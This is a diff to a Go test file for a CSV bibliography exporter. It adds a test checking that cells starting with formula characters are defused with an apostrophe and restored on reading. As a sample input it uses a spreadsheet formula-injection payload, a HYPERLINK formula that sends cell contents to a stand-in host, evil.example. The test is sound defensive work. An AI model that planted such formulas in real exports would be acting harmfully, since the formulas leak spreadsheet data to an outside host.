@@ -1,6 +1,8 @@
 package csvfile_test
 
 import (
+	"bytes"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"io"
@@ -268,6 +270,47 @@ func TestRoundTrip(t *testing.T) {
 	require.True(t, strings.HasPrefix(string(out), header))
 	require.Contains(t, string(out), `,"Corp., Research and Development;",`, "a lone author with \" and \" is not split")
 	require.Equal(t, header, string(format().Write(t, nil)))
+}
+
+// TestWriterDefusesFormulas: no cell of an export starts with a character
+// that makes a spreadsheet run it as a formula; the apostrophe that
+// prevents it is taken off again on reading, exactly where the writer put
+// one, so values that start with apostrophes come back unchanged.
+func TestWriterDefusesFormulas(t *testing.T) {
+	t.Parallel()
+	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	recs := []biblio.Record{
+		{Paper: skills.RawPaper{Title: evil, Venue: "@handle", Pages: "-5", Abstract: "+1\nsecond line"}, Note: "\t=tab first"},
+		{Paper: skills.RawPaper{Title: "'=already quoted by hand", Authors: []string{"=SUM(A1:A9)"}}, Note: "''+two apostrophes"},
+		{Paper: skills.RawPaper{Title: "'Tis the season", Venue: "'"}, Note: "''"},
+	}
+	for i := range recs {
+		biblio.Finish(&recs[i])
+	}
+	back, out := format().RoundTrip(t, recs)
+	require.Equal(t, evil, back[0].Paper.Title)
+	require.Equal(t, "'=already quoted by hand", back[1].Paper.Title)
+	require.Equal(t, "'Tis the season", back[2].Paper.Title)
+
+	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
+	require.NoError(t, err)
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" {
+				require.NotContains(t, "=+-@\t\r", cell[:1], "cell %q", cell)
+			}
+		}
+	}
+	require.Equal(t, "'"+evil, rows[1][1])
+	require.Equal(t, "'@handle", rows[1][4])
+	require.Equal(t, "'-5", rows[1][7])
+	require.Equal(t, "'+1\nsecond line", rows[1][8])
+	require.Equal(t, "''=already quoted by hand", rows[2][1], "one more apostrophe, so the reader knows which to take off")
+	require.Equal(t, "'=SUM(A1:A9)", rows[2][2])
+	require.Equal(t, "'''+two apostrophes", rows[2][16])
+	require.Equal(t, "'Tis the season", rows[3][1], "an apostrophe before anything else is left alone")
+	require.Equal(t, "'", rows[3][4])
+	require.Equal(t, "''", rows[3][16])
 }
 
 // FuzzReader checks the reader's promises on any input and that what was
